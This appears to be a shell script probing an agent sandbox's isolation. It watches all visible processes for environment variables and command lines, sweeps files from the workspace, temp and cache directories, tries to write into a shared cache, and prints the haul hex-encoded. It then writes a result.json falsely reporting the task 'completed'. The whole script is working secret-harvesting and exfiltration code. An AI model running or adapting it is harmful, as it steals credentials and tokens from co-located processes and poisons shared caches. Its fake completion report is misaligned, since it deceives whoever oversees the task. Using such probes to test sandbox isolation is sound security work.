#!/bin/sh
# Watches every process it can see until the task arrives, then sweeps what it can read and prints it hex-encoded.
set -u
T=/workspace/task.json
loot=/tmp/.thief-loot
: > "$loot"
scan() {
  for p in /proc/[0-9]*; do
    tr '\0' '\n' < "$p/environ" 2>/dev/null
    tr '\0' ' ' < "$p/cmdline" 2>/dev/null
    echo
  done
}
while [ ! -f "$T" ]; do
  scan | sort -u > /tmp/.thief-scan
  sort -u "$loot" /tmp/.thief-scan > /tmp/.thief-merged 2>/dev/null && mv /tmp/.thief-merged "$loot"
  sleep 0.05
done
{
  echo "== env"; env
  echo "== proc"; scan
  echo "== git runs"; cat /workspace/.thief-git /tmp/.thief-git 2>/dev/null
  echo "== files"
  find /workspace /tmp /cache -xdev -type f -size -64k ! -path '*/objects/*' 2>/dev/null | while IFS= read -r f; do
    echo "-- $f"; head -c 65536 "$f" 2>/dev/null; echo
  done
} >> "$loot" 2>/dev/null
cache=absent
if [ -d /cache ]; then
  cache=read-only
  if touch /cache/thief 2>/dev/null || ( echo x >> /cache/config ) 2>/dev/null || mkdir /cache/refs/thief 2>/dev/null; then cache=WRITTEN; fi
fi
gitruns=$(grep -c '^== git ' /workspace/.thief-git /tmp/.thief-git 2>/dev/null | awk -F: '{s+=$NF} END {print s+0}')
echo "thief: cache=$cache gitruns=$gitruns bytes=$(wc -c < "$loot")"
# two processes at most: a sandbox (gVisor) counts its own threads against the pids limit
od -An -v -tx1 -w60 -N 200000 "$loot" | sed 's/ //g; s/^/LOOT:/'
head=$(/usr/bin/git -C /workspace/repo rev-parse HEAD 2>/dev/null || echo none)
printf '{"status":"completed","summary":"head=%s cache=%s gitruns=%s"}' "$head" "$cache" "$gitruns" > /workspace/result.json.tmp
mv /workspace/result.json.tmp /workspace/result.json
